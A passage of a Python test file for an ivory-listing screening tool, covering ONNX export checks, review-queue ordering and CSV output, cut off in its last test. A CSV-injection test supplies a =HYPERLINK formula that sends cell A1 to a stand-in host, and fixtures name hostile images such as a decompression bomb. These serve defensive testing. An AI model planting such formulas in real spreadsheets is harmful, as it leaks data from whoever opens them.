"""Screening listings, and the ONNX export it runs on."""

from __future__ import annotations

import csv
import hashlib
import html
import json
import logging
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from safetensors.torch import load_file, save_file

from artsentry import __version__
from artsentry.cli import EXIT_SOME_UNREADABLE, main
from artsentry.data.images import load_image
from artsentry.files import formula_as_text, formula_from_text
from artsentry.inference import Predictor
from artsentry.models.artifact import ArtifactError, read_config, update_config
from artsentry.models.onnx import export_onnx, onnx_ready
from artsentry.screen import (LISTING_STATUSES, ONCE_DIR, OUTPUT_COLUMNS, ScreenError, Screener, _priority,
                              listing_rollup, read_evidence, read_listings, verify_run)

from .conftest import abc_register, files_host, object_photo, reply, trickle, web_host


@pytest.fixture(scope="module")
def onnx_model_dir(model_dir, tmp_path_factory):
    folder = tmp_path_factory.mktemp("onnx") / "model"
    shutil.copytree(model_dir, folder)
    export_onnx(folder)
    return folder


@pytest.fixture
def listings(tmp_path, synthetic_dataset, hostile_dir) -> Path:
    """A CSV of listings: good photos of both classes, hostile files, a missing file, an URL."""
    rows = []
    for label in ("ivory", "non_ivory"):
        for f in sorted((synthetic_dataset / label).glob("*.jpg"))[:6]:
            rows.append({"listing_id": f"L-{f.stem}", "image_path": str(f), "title": f"carving {f.stem}",
                         "price": "120", "seller": "s1"})
    for f in sorted(hostile_dir.iterdir()):
        rows.append({"listing_id": f"H-{f.name}", "image_path": str(f), "title": f.name, "price": "", "seller": "s2"})
    rows.append({"listing_id": "M-missing", "image_path": "does/not/exist.jpg", "title": "", "price": "",
                 "seller": ""})
    rows.append({"listing_id": "U-url", "image_path": "http://127.0.0.1:9/x.jpg", "title": "", "price": "",
                 "seller": ""})
    path = tmp_path / "listings.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


# -- ONNX ------------------------------------------------------------------------------------
def test_onnx_export_matches_pytorch_on_real_images(onnx_model_dir, synthetic_dataset):
    config = read_config(onnx_model_dir)
    assert config["runtime"] == "onnxruntime" and onnx_ready(onnx_model_dir)
    block = config["onnx"]
    assert block["input"]["name"] == "input" and block["output"]["name"] == "logits"
    assert block["parity"]["max_prob_diff"] <= 1e-3
    files = sorted(str(f) for f in synthetic_dataset.rglob("*.jpg"))
    torch_p = Predictor.load(onnx_model_dir, runtime="torch")
    onnx_p = Predictor.load(onnx_model_dir)  # auto: the config says onnxruntime
    assert torch_p.runtime == "torch" and onnx_p.runtime == "onnxruntime"
    images = [load_image(f) for f in files]
    a, b = torch_p.predict_proba(images), onnx_p.predict_proba(images)
    assert a.shape == b.shape == (len(files), 2)
    assert np.abs(a - b).max() <= 1e-3
    assert (a.argmax(1) == b.argmax(1)).all()


def test_stale_onnx_is_never_used(onnx_model_dir, tmp_path):
    folder = tmp_path / "m"
    shutil.copytree(onnx_model_dir, folder)
    weights = load_file(str(folder / "model.safetensors"))
    key = next(k for k in weights if k.endswith("weight"))
    weights[key] = weights[key] * 1.5  # "retrained" into the same folder
    save_file(weights, str(folder / "model.safetensors"))
    assert not onnx_ready(folder)
    assert Predictor.load(folder).runtime == "torch"
    with pytest.raises(ArtifactError, match="artsentry export"):
        Predictor.load(folder, runtime="onnx")
    # the graph deleted (a copy made without it, a clean-up), its config block left: PyTorch, not a crash
    gone = tmp_path / "gone"
    shutil.copytree(onnx_model_dir, gone)
    assert onnx_ready(gone)
    (gone / "model.onnx").unlink()
    assert not onnx_ready(gone) and Predictor.load(gone).runtime == "torch"


def test_a_damaged_onnx_file_is_named_never_a_traceback(onnx_model_dir, tmp_path, caplog):
    """A model.onnx cut short or overwritten (a copy stopped half-way) ended every command on the model in
    ONNX Runtime's InvalidProtobuf traceback. The export's recorded SHA-256 tells it: PyTorch answers, with a
    warning; asked for ONNX, an error naming the file and the command that mends it."""
    from artsentry.models.onnx import OnnxClassifier

    folder = tmp_path / "m"
    shutil.copytree(onnx_model_dir, folder)
    graph = (folder / "model.onnx").read_bytes()
    (folder / "model.onnx").write_bytes(graph[: len(graph) // 3])
    caplog.clear()
    assert Predictor.load(folder).runtime == "torch"
    assert f"{folder / 'model.onnx'} is not the file 'artsentry export' wrote (damaged or replaced since); " \
           "running on PyTorch" in caplog.text
    with pytest.raises(ArtifactError) as refused:
        Predictor.load(folder, runtime="onnx")
    assert str(refused.value) == (f"{folder / 'model.onnx'} is not the file 'artsentry export' wrote (damaged or "
                                  f"replaced since): run 'artsentry export {folder}' again, or use runtime 'torch'")
    with pytest.raises(ArtifactError, match="ONNX Runtime cannot load it .*INVALID_PROTOBUF"):
        OnnxClassifier(folder / "model.onnx")  # an export's own check of a graph it just wrote
    (folder / "model.onnx").write_bytes(graph)
    caplog.clear()
    assert Predictor.load(folder).runtime == "onnxruntime" and "not the file" not in caplog.text


def test_int8_copies_of_a_graph(onnx_model_dir, synthetic_dataset, tmp_path):
    """``quantize_onnx`` (benchmarks/screen.py's int8 runs; never the default): the dynamic copy keeps
    the float graph's decisions on these photos; the static one calibrates on the images given and
    gives finite logits of the same shape (on this 64-px toy model its activation ranges are too coarse
    to keep the decisions: the static copy's accuracy is what benchmarks/screen.py measures on a real
    model before anyone uses it). Neither leaves its intermediate file; an unknown mode, or a static
    run with nothing to calibrate on, is refused."""
    from artsentry.models.onnx import ONNX_NAME, OnnxClassifier, quantize_onnx

    predictor = Predictor.load(onnx_model_dir)
    files = sorted(synthetic_dataset.rglob("*.jpg"))
    images = np.stack([predictor.transform(load_image(files[i])).numpy()
                       for i in np.random.default_rng(0).permutation(len(files))[:40]])  # both labels
    float_logits = OnnxClassifier(onnx_model_dir / ONNX_NAME).logits(images)
    static = OnnxClassifier(quantize_onnx(onnx_model_dir / ONNX_NAME, tmp_path / "static.onnx", "static",
                                          images[:20])).logits(images)
    assert static.shape == float_logits.shape and np.isfinite(static).all()
    dynamic = OnnxClassifier(quantize_onnx(onnx_model_dir / ONNX_NAME, tmp_path / "dynamic.onnx",
                                           "dynamic")).logits(images)
    assert (dynamic.argmax(1) == float_logits.argmax(1)).mean() >= 0.95
    assert not np.array_equal(dynamic, float_logits)  # int8 weights, not the float graph copied
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dynamic.onnx", "static.onnx"]
    with pytest.raises(ValueError, match="mode must be one of"):
        quantize_onnx(onnx_model_dir / ONNX_NAME, tmp_path / "x.onnx", "int4")
    for empty in (None, images[:0]):
        with pytest.raises(ValueError, match="static quantisation needs calibration images"):
            quantize_onnx(onnx_model_dir / ONNX_NAME, tmp_path / "x.onnx", "static", empty)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dynamic.onnx", "static.onnx"]


def test_export_cli_standalone_copy(model_dir, tmp_path, capsys):
    out = tmp_path / "for" / "edge"  # folders made as needed
    assert main(["export", str(model_dir), "--out", str(out)]) == 0
    side = json.loads((out / "config.json").read_text())
    assert (out / "model.onnx").is_file() and side["preprocessing"]["input_size"] == 64
    assert side["labels"] == ["ivory", "non_ivory"] and side["onnx"]["input"]["shape"] == ["batch", 3, 64, 64]
    assert "onnx" not in read_config(model_dir)  # the source folder is untouched
    assert "max |dprob|" in capsys.readouterr().out
    # what a phone app must do to a photo before the graph, in words (this model fits photos)
    assert side["preprocessing"]["resize"] == "fit" and side["preprocessing_steps"].startswith(
        "RGB; a photo wider than 4:3 cut to 4:3 at its centre (taller than 3:4: cut to 3:4), then resized to "
        "input_size x input_size")
    assert main(["-q", "export", str(model_dir), "--out", str(out)]) == 0  # a standalone copy is made again
    # over another model it paired that model's weights with this config and lost its own (found 2026-12-06)
    other = tmp_path / "other"
    shutil.copytree(model_dir, other)
    (other / "config.json").write_text((other / "config.json").read_text().replace('"non_ivory"', '"ceramic"'))
    before = {p.name: p.read_bytes() for p in other.iterdir()}
    assert main(["-q", "export", str(model_dir), "--out", str(other)]) == 1
    assert "holds a model (model.safetensors)" in capsys.readouterr().err
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "config.json").write_text("{}")
    assert main(["-q", "export", str(model_dir), "--out", str(tmp_path / "notes")]) == 1
    assert "holds a config.json that no standalone export wrote" in capsys.readouterr().err
    assert sorted(p.name for p in (tmp_path / "notes").iterdir()) == ["config.json"]
    assert {p.name: p.read_bytes() for p in other.iterdir()} == before
    # the model's own folder, written another way, is the model's own folder: its config keeps all it holds
    config = read_config(other)
    assert main(["-q", "export", str(other), "--out", os.path.relpath(other)]) == 0
    after = read_config(other)
    assert after["onnx"]["file"] == "model.onnx" and {k: v for k, v in after.items() if k not in (
        "onnx", "runtime")} == config


# -- screening -------------------------------------------------------------------------------
def _strip_time(records):
    return [{k: v for k, v in r.items() if k not in ("time", "prev")} for r in records]  # links hash the times


def test_screen_csv_completes_with_bad_images_and_carries_columns(onnx_model_dir, listings, tmp_path, capsys):
    out = tmp_path / "out"
    code = main(["-q", "screen", str(listings), "--out", str(out), "--model", str(onnx_model_dir)])
    assert code == EXIT_SOME_UNREADABLE
    records = read_evidence(out / "evidence.jsonl")
    n_rows = len(pd.read_csv(listings))
    assert sorted(r["row"] for r in records) == list(range(n_rows))
    by_id = {r["listing_id"]: r for r in records}
    # every good photo gets a decision, and the decisions are right on this easy data
    for lid, r in by_id.items():
        if lid.startswith("L-"):
            assert r["error"] is None and len(r["sha256"]) == 64
            assert r["flagged"] == ("non_ivory" not in lid), lid
            assert r["model"]["runtime"] == "onnxruntime" and r["model"]["threshold"] == 0.5
            assert r["listing"]["seller"] == "s1" and r["listing"]["title"] == f"carving {lid[2:]}"
    errors = {lid: r["error"] for lid, r in by_id.items() if r["error"]}
    assert set(errors) == {"H-zero_bytes.jpg", "H-truncated.jpg", "H-text.jpg", "H-bomb.png", "H-tracking_pixel.gif",
                           "M-missing", "U-url"}
    assert "0 bytes" in errors["H-zero_bytes.jpg"] and "not found" in errors["M-missing"]
    assert "--fetch-urls" in errors["U-url"]
    for ok in ("H-cmyk.jpg", "H-grey16.png", "H-palette_transparent.png", "H-good.jpg"):
        assert by_id[ok]["error"] is None and by_id[ok]["score"] is not None
    # each readable photo carries its quality; the unreadable ones none
    for lid, r in by_id.items():
        assert (r.get("quality") is None) == (lid in errors), lid
    quality = {lid: r["quality"] for lid, r in by_id.items() if lid.startswith("L-")}
    assert all(q["long_side"] == 120 and q["warnings"][0] == "small photo: 120 px on its long side (under 224)"
               for q in quality.values())
    results = pd.read_csv(out / "results.csv").set_index("listing_id")
    for lid, r in by_id.items():
        expected = "; ".join(r["quality"]["warnings"]) if r.get("quality") else None
        assert (results.at[lid, "quality_warnings"] if pd.notna(results.at[lid, "quality_warnings"]) else None) \
            == (expected or None), lid
    # outputs: the queue holds exactly the flagged rows, highest probability first
    queue = pd.read_csv(out / "queue.csv")
    flagged = {lid for lid, r in by_id.items() if r.get("flagged")}
    assert set(queue["listing_id"]) == flagged
    assert list(queue["score"]) == sorted(queue["score"], reverse=True)
    assert queue.columns[0] == "rank" and list(queue["rank"]) == list(range(1, len(queue) + 1))
    assert {"title", "price", "seller"} <= set(queue.columns)
    errors_csv = pd.read_csv(out / "errors.csv")
    # no index column; each row with its listing's columns, to be screened again as it is (test_cli: the retry)
    assert list(errors_csv.columns) == ["row", "listing_id", "image", "title", "price", "seller", "error"]
    assert set(errors_csv["listing_id"]) == set(errors)
    assert dict(zip(errors_csv["listing_id"], errors_csv["seller"].fillna(""))) == {
        lid: str(by_id[lid]["listing"].get("seller") or "") for lid in errors}
    page = (out / "queue.html").read_text()
    assert page.count('class="card"') == len(queue) and "data:image/jpeg;base64," in page
    # flagged photos carry their evidence overlay (local files: all of them here, under the default 50)
    assert page.count('alt="evidence overlay (Grad-CAM)') == min(50, len(flagged))
    assert "http" not in page.replace("http://127.0.0.1:9/x.jpg", "")  # nothing fetched from anywhere
    from .browser import browser_page

    with browser_page() as (bpage, log):
        bpage.goto((out / "queue.html").resolve().as_uri())
        assert bpage.locator('img[alt^="evidence overlay"]').first.is_visible()
    assert log.console_errors == [] and log.outside == []
    summary = json.loads((out / "summary.json").read_text())
    assert summary["complete"] and summary["unreadable"] == len(errors) and summary["flagged"] == len(flagged)
    assert summary["weak_photos"] == sum(bool(r.get("quality") and r["quality"]["warnings"]) for r in records) > 0
    # one listing per photo here: the listing table is the queue's listings first, then the rest
    per_listing = pd.read_csv(out / "listings.csv")
    assert summary["listings"] == len(per_listing) == n_rows and summary["listings_to_review"] == len(flagged)
    assert list(per_listing["listing_id"][: len(queue)]) == list(queue["listing_id"])
    # a listing none of whose photos could be read is not cleared: "not screened", after those to review
    status = per_listing.set_index("listing_id")["status"]
    assert all(status[lid] == ("not screened" if lid in errors else "review" if lid in flagged else "clear")
               for lid in by_id)
    assert list(per_listing["status"]) == sorted(per_listing["status"], key=LISTING_STATUSES.index)
    assert summary["listings_not_screened"] == len(errors) and summary["listings_partly_screened"] == 0
    weak = per_listing.set_index("listing_id")["weak_photos"]
    assert all(weak[lid] == int(bool(r.get("quality") and r["quality"]["warnings"])) for lid, r in by_id.items())
    assert page.count('class="weak">weak evidence: ') == sum(bool(by_id[lid]["quality"]["warnings"]) for lid in flagged)
    assert page.count("weak evidence: small photo: 120 px") >= sum(lid.startswith("L-") for lid in flagged) > 0
    printed = capsys.readouterr().out
    assert "review queue" in printed and f"{summary['weak_photos']} photo(s) blurred, grainy, dark, small or narrow" in printed
    assert f"not screened (no photo could be read): {len(errors)} listing(s); partly screened: 0" in printed
    assert f"once the cause is mended, 'artsentry screen {out / 'errors.csv'} --out NEW_FOLDER' screens" in printed


def test_the_photos_a_run_could_not_read_are_screened_again_from_its_errors_csv(model_dir, synthetic_dataset,
                                                                                 tmp_path):
    """A run's errors are final: the same command again screens nothing again. Once the cause is mended (a
    file put back, a host up again), its errors.csv is a table `screen` takes as it is: each unreadable photo
    by its full path or URL, with its listing's columns (errors.csv held row, listing id, image and error only,
    so a retry lost the titles and sellers), the old row and error carried as input_row and input_error."""

    photos = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[:2]
    (tmp_path / "pics").mkdir()
    shutil.copy(photos[0], tmp_path / "pics" / "a.jpg")
    pd.DataFrame({"listing_id": ["A", "B"], "image": ["pics/a.jpg", "pics/b.jpg"], "title": ["tube", "comb"],
                  "seller": ["s1", "s2"]}).to_csv(tmp_path / "t.csv", index=False)
    out, again = tmp_path / "out", tmp_path / "again"
    assert main(["-q", "screen", str(tmp_path / "t.csv"), "--out", str(out), "--model", str(model_dir)]) == 3
    shutil.copy(photos[1], tmp_path / "pics" / "b.jpg")  # mended
    assert main(["-q", "screen", str(tmp_path / "t.csv"), "--out", str(out), "--model", str(model_dir)]) == 3
    assert pd.read_csv(out / "errors.csv")["listing_id"].tolist() == ["B"]  # the run's errors are final
    assert main(["-q", "screen", str(out / "errors.csv"), "--out", str(again), "--model", str(model_dir)]) == 0
    retried = pd.read_csv(again / "results.csv")
    assert retried[["listing_id", "image", "title", "seller", "input_row"]].values.tolist() == [
        ["B", str(tmp_path / "pics" / "b.jpg"), "comb", "s2", 1]]
    assert retried["error"].isna().all() and retried["input_error"].str.endswith("b.jpg: file not found").all()
    assert read_evidence(again / "evidence.jsonl")[0]["sha256"] == hashlib.sha256(photos[1].read_bytes()).hexdigest()


def test_a_sellers_formula_reaches_the_spreadsheet_as_text_and_a_retry_as_it_was(model_dir, synthetic_dataset,
                                                                                   tmp_path):
    """Listing tables are scraped from marketplaces, and their columns go into the CSV tables an analyst opens
    in Excel: a title "=HYPERLINK(...)" ran there as a formula (CSV injection). A text cell a spreadsheet would
    take for a formula is written with a leading apostrophe; numbers are not; the evidence keeps the values as
    given, and errors.csv screened again gives them back as they were."""
    model = tmp_path / "model"
    shutil.copytree(model_dir, model)
    update_config(model, threshold=0.0)  # every readable photo flagged: queue.csv holds them
    photo = sorted((synthetic_dataset / "ivory").glob("*.jpg"))[0]
    (tmp_path / "pics").mkdir()
    shutil.copy(photo, tmp_path / "pics" / "a.jpg")
    given = {"listing_id": ["@lot-1", "-2", "=3"], "image": ["pics/a.jpg", "pics/a.jpg", "pics/gone.jpg"],
             "title": ['=HYPERLINK("http://x.test/?"&A1,"more")', "ivoire sculpté 象牙", "+44 20 7946 0000"],
             "price": ["-5", "-", "\t=1+1"]}
    pd.DataFrame(given).to_csv(tmp_path / "t.csv", index=False)
    out, again = tmp_path / "out", tmp_path / "again"
    assert main(["-q", "screen", str(tmp_path / "t.csv"), "--out", str(out), "--model", str(model)]) == 3
    cells = {}
    for name in ("results.csv", "queue.csv", "listings.csv", "errors.csv"):
        assert (out / name).read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads "sculpté", not "sculptÃ©"
        with open(out / name, newline="", encoding="utf-8-sig") as fh:
            cells[name] = [c for row in csv.reader(fh) for c in row]
        assert not [c for c in cells[name] if c[:1] in ("=", "+", "@", "\t") or re.match(r"-[^\d]", c)], name
    assert {"'@lot-1", "'=3", "'" + given["title"][0], "-2", "-5", "-", given["title"][1]} <= set(cells["results.csv"])
    assert pd.read_csv(out / "results.csv").columns[0] == "row"
    assert {"'=3", "'+44 20 7946 0000", "'\t=1+1"} <= set(cells["errors.csv"])
    assert "'@lot-1" in cells["queue.csv"] and "'@lot-1" in cells["listings.csv"]
    records = read_evidence(out / "evidence.jsonl")
    assert [r["listing"]["title"] for r in records] == given["title"]
    assert [r["listing_id"] for r in records] == given["listing_id"]
    shutil.copy(photo, tmp_path / "pics" / "gone.jpg")
    assert main(["-q", "screen", str(out / "errors.csv"), "--out", str(again), "--model", str(model)]) == 0
    retried = read_evidence(again / "evidence.jsonl")
    assert [(r["listing_id"], r["listing"]["title"], r["listing"]["price"]) for r in retried] == [
        ("=3", "+44 20 7946 0000", "\t=1+1")]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+44 20", "'+44 20"), ("-abc", "'-abc"), ("\r=1", "'\r=1"),
    ("\tx", "'\tx"), ("  =1", "'  =1"), ("\u00a0=1", "'\u00a0=1"), ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
    ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-.5", "-.5"), ("-", "-"), ("a=b", "a=b"), ("", ""), ("'x", "'x")])
def test_which_cells_a_spreadsheet_would_run_are_written_as_text(value, written):
    assert formula_as_text(value) == written
    assert formula_from_text(written) == value


def test_the_queue_puts_matches_first_by_their_best_match_then_flags_by_score():
    """The review queue's order: photos matching a registered object first, the strongest match (a
    photo's first, best, match) first; then the flagged by score; ties by row."""
    records = [
        {"row": 0, "matched": False, "score": 0.7, "matches": [{"score": 0.99}]},  # a near miss is no match
        {"row": 1, "matched": True, "score": 0.1, "matches": [{"score": 0.6}, {"score": 0.5}]},
        {"row": 2, "matched": True, "score": 0.2, "matches": [{"score": 0.8}, {"score": 0.1}]},
        {"row": 3, "matched": False, "score": 0.9, "matches": []},
        {"row": 4, "matched": False, "score": 0.9},
    ]
    assert [r["row"] for r in sorted(records, key=_priority)] == [2, 1, 3, 4, 0]


def test_listing_rollup_one_row_per_listing():
    """A listing's photos share its id: the reviewer gets one row per listing, matches first."""
    none = [None] * 8
    table = pd.DataFrame({
        "row": range(8), "listing_id": ["a", "a", "b", "c", "c", "d", "e", "e"],
        "image": [f"p{i}.jpg" for i in range(8)],
        "score": [0.2, 0.9, 0.6, None, 0.1, 0.95, 0.3, 0.4],
        "flagged": [False, True, True, None, False, True, False, False],
        "matched": [False, False, False, None, False, False, True, False],
        "best_match": ["X", "X", "Y", None, "Y", "X", "Z", "Z"],
        "best_match_score": [0.1, 0.2, 0.3, None, 0.4, 0.2, 0.8, 0.7],
        "best_match_status": [None, None, None, None, None, None, "stolen", "stolen"],
        "error": [None, None, None, "truncated", None, None, None, None],
        "title": ["A1", "A2", "B", "C1", "C2", "D", "E1", "E2"], "culture": none})
    r = listing_rollup(table, ["title"])
    assert list(r["listing_id"]) == ["e", "d", "a", "b", "c"]  # the match, then flags by score, then the rest
    assert list(r["rank"]) == [1, 2, 3, 4, pd.NA]
    assert list(r["review"]) == [True, True, True, True, False]
    assert list(r["status"]) == ["review"] * 4 + ["partly screened"]  # c: one photo unreadable, the other passed
    assert list(r["photos"]) == [2, 1, 2, 1, 2] and list(r["unreadable"]) == [0, 0, 0, 0, 1]
    assert list(r["flagged_photos"]) == [0, 1, 1, 1, 0] and list(r["matched_photos"]) == [1, 0, 0, 0, 0]
    assert list(r["weak_photos"]) == [0] * 5  # a table without quality_warnings (the API's) has none
    # with review_weak, c (only a weak pass: p4 is warned) is to review too, after every flagged listing
    weak = listing_rollup(table.assign(quality_warnings=[None] * 4 + ["small photo"] + [None] * 3), ["title"],
                          review_weak=True)
    assert list(weak["listing_id"]) == ["e", "d", "a", "b", "c"] and list(weak["review"]) == [True] * 5
    assert list(weak["rank"]) == [1, 2, 3, 4, 5] and list(weak["weak_photos"]) == [0, 0, 0, 0, 1]
    plain = listing_rollup(table.assign(quality_warnings=[None] * 4 + ["small photo"] + [None] * 3))
    assert not plain["review"].iloc[-1]  # without review_weak the weak pass clears it
    sound = listing_rollup(table.assign(quality_warnings=[None] * 8), review_weak=True)
    assert list(sound["review"]) == [True] * 4 + [False]  # review_weak with no weak photo changes nothing
    a = r.set_index("listing_id").loc["a"]
    assert a["max_score"] == 0.9 and a["max_score_image"] == "p1.jpg" and a["title"] == "A1"
    e = r.set_index("listing_id").loc["e"]
    assert (e["best_match"], e["best_match_score"], e["best_match_image"]) == ("Z", 0.8, "p6.jpg")
    assert e["best_match_status"] == "stolen"
    c = r.set_index("listing_id").loc["c"]
    assert c["max_score"] == 0.1 and c["max_score_image"] == "p4.jpg"  # the unreadable photo has no score


def test_listings_matching_registered_objects_come_first_strongest_match_first():
    """Among listings to review: register matches before flags, whatever the flag's score, and the
    strongest match first; the photo's own ivory score does not order the matches."""
    table = pd.DataFrame({
        "row": range(4), "listing_id": ["flag", "weak_match", "strong_match", "clear"], "image": list("abcd"),
        "score": [0.99, 0.8, 0.1, 0.2], "flagged": [True, True, False, False],
        "matched": [False, True, True, False], "best_match": [None, "X", "Y", None],
        "best_match_score": [0.95, 0.7, 0.9, None],  # the flagged photo's near miss is no match
        "best_match_status": [None] * 4, "error": [None] * 4})
    r = listing_rollup(table)
    assert list(r["listing_id"]) == ["strong_match", "weak_match", "flag", "clear"]
    assert list(r["rank"]) == [1, 2, 3, pd.NA]


def test_a_listing_whose_photos_could_not_be_read_is_never_cleared():
    table = pd.DataFrame({
        "row": range(5), "listing_id": ["ok", "half", "half", "none", "flag"], "image": list("abcde"),
        "score": [0.1, 0.2, None, None, 0.9], "flagged": [False, False, None, None, True],
        "matched": [None] * 5, "best_match": [None] * 5, "best_match_score": [None] * 5,
        "best_match_status": [None] * 5, "error": [None, None, "truncated", "file not found", None]})
    r = listing_rollup(table)
    assert list(r["listing_id"]) == ["flag", "none", "half", "ok"]
    assert list(r["status"]) == ["review", "not screened", "partly screened", "clear"] == list(LISTING_STATUSES)
    assert list(r["review"]) == [True, False, False, False] and list(r["rank"]) == [1, pd.NA, pd.NA, pd.NA]


def test_screen_groups_a_listings_photos(model_dir, synthetic_dataset, tmp_path, capsys):
    ivory = sorted(str(f) for f in (synthetic_dataset / "ivory").glob("*.jpg"))
    other = sorted(str(f) for f in (synthetic_dataset / "non_ivory").glob("*.jpg"))
    path = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": ["L1", "L2", "L1", "L3", "L1"],
                  "image": [ivory[0], ivory[1], other[0], other[1], ivory[2]],
                  "title": ["three photos", "one", "three photos (2)", "plain", "three photos (3)"]}
                 ).to_csv(path, index=False)
    out = tmp_path / "out"
    assert main(["-q", "screen", str(path), "--out", str(out), "--model", str(model_dir)]) == 0
    assert "listings to review: 2 of 3" in capsys.readouterr().out
    per_listing = pd.read_csv(out / "listings.csv").set_index("listing_id")
    assert list(per_listing.index)[2] == "L3"  # the listing to pass comes last
    assert per_listing.loc["L1", ["photos", "flagged_photos"]].tolist() == [3, 2]
    assert sorted(per_listing.loc[["L1", "L2"], "rank"]) == [1, 2] and pd.isna(per_listing.loc["L3", "rank"])
    assert per_listing.loc["L1", "title"] == "three photos" and not per_listing.loc["L3", "review"]
    assert per_listing.loc["L1", "max_score_image"] in (ivory[0], ivory[2])
    assert len(pd.read_csv(out / "queue.csv")) == 3  # photos
    page = (out / "queue.html").read_text()
    assert page.count('class="card"') == 2 and "2 listing(s) to review (3 photo(s))" in page
    assert page.count('alt="listing photo L1"') == 2 and "(2 photos)" in page  # the flagged two, in one card
    assert 'alt="listing photo L3"' not in page
    # --overwrite starts over: an unfinished new run leaves no output of the old one beside it
    part = Screener(model_dir, progress=False, batch_size=2).run(path, out, overwrite=True, max_rows=2)
    assert not part["complete"]
    assert not any((out / name).exists() for name in ("results.csv", "queue.csv", "queue.html", "listings.csv"))


def test_review_weak_queues_weak_photos_the_model_passed_after_the_flagged(model_dir, synthetic_dataset, tmp_path,
                                                                          capsys):
    """With --review-weak a pass on a weak photo cannot clear its listing; run again on a complete
    run, the option only rewrites the outputs."""
    from PIL import Image
    from skimage import data as skdata

    ivory = sorted(str(f) for f in (synthetic_dataset / "ivory").glob("*.jpg"))
    other = sorted(str(f) for f in (synthetic_dataset / "non_ivory").glob("*.jpg"))
    sharp = tmp_path / "sharp.jpg"  # 640 px, crisp: no warning (the synthetic photos are 120 px: all warned small)
    Image.fromarray(skdata.rocket()).save(sharp, quality=95)
    path = tmp_path / "l.csv"
    pd.DataFrame({"listing_id": ["F", "W", "S"], "image": [ivory[0], other[0], str(sharp)]}).to_csv(path, index=False)
    out = tmp_path / "out"
    assert main(["-q", "screen", str(path), "--out", str(out), "--model", str(model_dir)]) == 0
    printed = capsys.readouterr().out
    assert "2 photo(s) blurred, grainy, dark, small or narrow" in printed and "--review-weak queues those passed" in printed
    results = pd.read_csv(out / "results.csv").set_index("listing_id")
    assert bool(results.at["F", "flagged"]) and not bool(results.at["W", "flagged"])
    assert pd.notna(results.at["W", "quality_warnings"]) and pd.isna(results.at["S", "quality_warnings"])
    passed_sharp = not bool(results.at["S", "flagged"])
    assert list(pd.read_csv(out / "queue.csv")["listing_id"]) == ["F"] + ([] if passed_sharp else ["S"])
    before = json.loads((out / "summary.json").read_text())
    assert before["review_weak"] is False and before["listings_to_review"] == 1 + (not passed_sharp)

    assert main(["-q", "screen", str(path), "--out", str(out), "--model", str(model_dir), "--review-weak"]) == 0
    after = json.loads((out / "summary.json").read_text())
    assert after["this_run"]["images"] == 0 and after["review_weak"] is True  # nothing screened again
    flagged = [lid for lid in ("F", "S") if bool(results.at[lid, "flagged"])]
    queue = list(pd.read_csv(out / "queue.csv")["listing_id"])
    assert sorted(queue[:-1]) == flagged and queue[-1] == "W"  # the weak pass after every flagged photo
    per_listing = pd.read_csv(out / "listings.csv").set_index("listing_id")
    assert per_listing.loc["W", "review"] and per_listing.loc["W", "weak_photos"] == 1
    assert per_listing.loc["W", "rank"] == len(flagged) + 1
    assert per_listing.loc["S", "review"] == (not passed_sharp) and per_listing.loc["S", "weak_photos"] == 0
    page = (out / "queue.html").read_text()
    assert 'alt="listing photo W"' in page and "weak evidence: small photo: 120 px" in page
    assert "and in the queue" in capsys.readouterr().out


def test_screen_groups_a_folders_subfolders_into_listings(model_dir, synthetic_dataset, tmp_path, capsys):
    ivory = sorted((synthetic_dataset / "ivory").glob("*.jpg"))
    other = sorted((synthetic_dataset / "non_ivory").glob("*.jpg"))
    scrape = tmp_path / "scrape"
    layout = {"L1/1.jpg": ivory[0], "L1/2.jpg": other[0], "L1/3.jpg": ivory[1], "L2/1.jpg": other[1],
              "shopA/L3/1.jpg": ivory[2], "loose.jpg": other[2]}
    for name, src in layout.items():
        (scrape / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(src, scrape / name)
    assert read_listings(scrape)["listing_id"].nunique() == 6  # by default every photo is a listing
    df = read_listings(scrape, group_folders=True)
    assert df["listing_id"].tolist() == ["L1", "L1", "L1", "L2", "loose.jpg", "shopA/L3"]
    assert df["image"].tolist() == [str((scrape / n).resolve()) for n in sorted(layout)]
    out = tmp_path / "out"
    assert main(["-q", "screen", str(scrape), "--out", str(out), "--model", str(model_dir), "--group-folders"]) == 0
    assert "of 4 (" in capsys.readouterr().out  # four listings
    per_listing = pd.read_csv(out / "listings.csv").set_index("listing_id")
    assert per_listing.loc["L1", "photos"] == 3 and per_listing.loc["shopA/L3", "photos"] == 1
    assert per_listing["photos"].sum() == 6
    # the same folder without grouping is another set of listings: refused, not mixed in
    with pytest.raises(ScreenError, match="another --group-folders choice"):
        Screener(model_dir, progress=False).run(scrape, out)
    table = tmp_path / "t.csv"
    pd.DataFrame({"image": [str(ivory[0])]}).to_csv(table, index=False)
    with pytest.raises(ScreenError, match="folder of images"):
        read_listings(table, group_folders=True)


def test_a_resumed_runs_progress_bar_counts_the_whole_run(model_dir, listings, tmp_path, capsys):
    """The bar starts at the rows a resumed run kept; its flagged and unreadable counts started at 0,
    so a watcher read 'flagged=0' over thousands of photos flagged before the stop."""
    def counts(records):
        return (f"flagged={sum(bool(r.get('flagged') or r.get('matched')) for r in records)}, "
                f"unreadable={sum(r['error'] is not None for r in records)}")

    out = tmp_path / "out"
    Screener(model_dir, progress=False, batch_size=4).run(listings, out, max_rows=8)
    kept = read_evidence(out / "evidence.jsonl")
    assert len(kept) == 8 and counts(kept) != "flagged=0, unreadable=0"
    capsys.readouterr()
    Screener(model_dir, progress=True, batch_size=4).run(listings, out)
    draws = [d.strip() for d in capsys.readouterr().err.split("\r") if d.strip()]
    records = read_evidence(out / "evidence.jsonl")
    n = len(records)
    at_start = [d for d in draws if d.startswith("screen:") and f" 8/{n} " in d]
    assert at_start and all(counts(kept) in d for d in at_start)  # where the run stopped, with what it had then
    last = [d for d in draws if d.startswith("screen:")][-1]
